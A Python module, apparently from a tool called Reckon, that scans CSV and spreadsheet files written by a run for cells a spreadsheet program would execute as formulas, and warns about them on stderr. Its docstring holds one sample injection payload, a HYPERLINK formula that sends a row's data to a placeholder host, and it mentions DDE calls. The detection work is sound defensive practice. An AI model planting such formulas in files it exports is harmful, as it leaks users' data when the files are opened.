"""Cells of a spreadsheet file that a spreadsheet program would run as formulas.

A CSV or workbook that a cell writes under ``/output`` can carry text from an upload:
``=HYPERLINK("http://x/?"&A2,"Open")`` in a name column is only text to pandas, but
Excel and LibreOffice run it when the person opens the downloaded file (a link that
sends the row away, a DDE call). Reckon does not rewrite a file a cell wrote: its
bytes are what the person's (or the model's) code chose, and a file changed behind
its author's back is worse than a warning. Instead each ``.csv``/``.tsv``/``.xlsx``/
``.xlsm``/``.ods`` file a run created or changed is read here, and the run result says
which cells would run: ``formulas`` on the file's entry and a line on ``stderr``, which
the person sees under the step and the model reads.

A CSV cell counts when it starts with ``=``, ``+``, ``-`` or ``@``, also after blanks,
tabs or a carriage return (OWASP's CSV-injection rule), unless it is a number
(``-12.5``, ``+3%``) or only signs (a "missing" marker): a formula of digits alone
computes nothing worse than a number. Cells are found after any of the delimiters
``,`` ``;`` tab and ``|``, since Excel splits by its locale's, not the writer's. In a
workbook only real formula cells count (``<f>`` in a sheet, ``table:formula`` in ODS):
a string there is shown as text, but openpyxl, and so ``DataFrame.to_excel``, stores
a string that starts with ``=`` as a formula. At most ``SCAN_BYTES`` of a file (of
each sheet of a workbook) are read; the note says when a file was bigger.
"""

from __future__ import annotations

import re
import zipfile
from typing import Any

__all__ = ["SCAN_BYTES", "flag_formulas", "formula_cells"]

SCAN_BYTES = 16 * 1024 * 1024
_TEXT = (".csv", ".tsv", ".tab")
_BOOKS = (".xlsx", ".xlsm", ".ods")
# A CSV cell: after a line break or a delimiter (the text gets a line break in front),
# past blanks and an opening quote; a number or signs alone ("-12.5", "+3%", "-", "--")
# are left alone. Starting with the delimiter, not a lookbehind, is 2x faster.
_CSV_FORMULA = re.compile(
    r'[,;\t|\r\n][ \t\r]*"?[ \t\r]*'
    r'(?![+-][-+\d., %eE]*(?:[,;\t|\r\n"]|\Z))'
    r"([=+\-@][^,;\t\r\n]*)"
)
_SHEET = re.compile(r"^xl/worksheets/sheet(\d+)\.xml$")
_CELL_OR_FORMULA = re.compile(rb'<(?:\w+:)?c\b[^>]*?\br="([A-Z]{1,3}\d{1,7})"|<(?:\w+:)?f[\s>/]')
_ODS_FORMULA = re.compile(rb"""table:formula=["']([^"']{0,80})""")


def _text_of(data: bytes) -> str:
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        return data.decode("utf-16", "replace")
    return data.decode("utf-8-sig", "replace")


def _csv_cells(data: bytes) -> tuple[int, str | None]:
    """How many cells start like a formula, and where the first is (``line 2: =...``)."""
    text = "\n" + _text_of(data)
    first = _CSV_FORMULA.search(text)
    if first is None:
        return 0, None
    count = sum(1 for _ in _CSV_FORMULA.finditer(text, first.start()))
    line = text.count("\n", 0, first.start() + 1)
    return count, f"line {line}: {_sample(first[1])}"


def _book_cells(path: str) -> tuple[int, str | None, bool]:
    count, first, whole = 0, None, True
    with zipfile.ZipFile(path) as book:
        for info in book.infolist():
            sheet = _SHEET.match(info.filename)
            if sheet is None and info.filename != "content.xml":
                continue
            with book.open(info) as member:
                data = member.read(SCAN_BYTES + 1)
            whole = whole and len(data) <= SCAN_BYTES
            if sheet is None:  # ODS
                formulas = _ODS_FORMULA.findall(data)
                count += len(formulas)
                if formulas and first is None:
                    first = _sample(formulas[0].decode("utf-8", "replace"))
                continue
            cell = None
            for match in _CELL_OR_FORMULA.finditer(data):
                if match[1] is not None:
                    cell = match[1].decode()
                    continue
                count += 1
                if first is None:
                    first = f"sheet {sheet[1]}, {cell or 'a cell'}"
    return count, first, whole


def _sample(cell: str) -> str:
    shown = cell if len(cell) <= 40 else cell[:40] + "…"
    return repr(shown)[1:-1]


def formula_cells(path: str) -> dict[str, Any] | None:
    """``{"count", "first", "checked"}`` for a spreadsheet file at ``path`` with cells
    that would run as formulas; None for none, another kind of file, or an unreadable
    one. ``checked`` is False when the file was bigger than what was read."""
    lower = path.lower()
    try:
        if lower.endswith(_TEXT):
            with open(path, "rb") as file:
                data = file.read(SCAN_BYTES + 1)
            count, first = _csv_cells(data[:SCAN_BYTES])
            whole = len(data) <= SCAN_BYTES
        elif lower.endswith(_BOOKS):
            count, first, whole = _book_cells(path)
        else:
            return None
    except Exception:  # a file it cannot read (a damaged zip, one deleted meanwhile)
        # A warning is all this is for: it never makes the run fail.
        return None
    if not count:
        return None
    return {"count": count, "first": first, "checked": whole}


def flag_formulas(files: list[dict[str, Any]]) -> str:
    """Adds ``formulas`` to each entry of a run's ``files`` that has some; returns the
    lines for the run's stderr (empty when none has)."""
    lines = []
    for entry in files:
        found = formula_cells(str(entry.get("path", "")))
        if found is None:
            continue
        entry["formulas"] = found
        cells = "1 cell" if found["count"] == 1 else f"{found['count']} cells"
        part = "" if found["checked"] else f" (in its first {SCAN_BYTES // 2**20} MB)"
        lines.append(
            f"[reckon] {entry['path']} has {cells}{part} that a spreadsheet program runs "
            f"as formulas when it opens the file (first: {found['first']}). If they came "
            "from an uploaded file rather than from you, write them as text: prefix each "
            "with an apostrophe (') before saving.\n"
        )
    return "".join(lines)
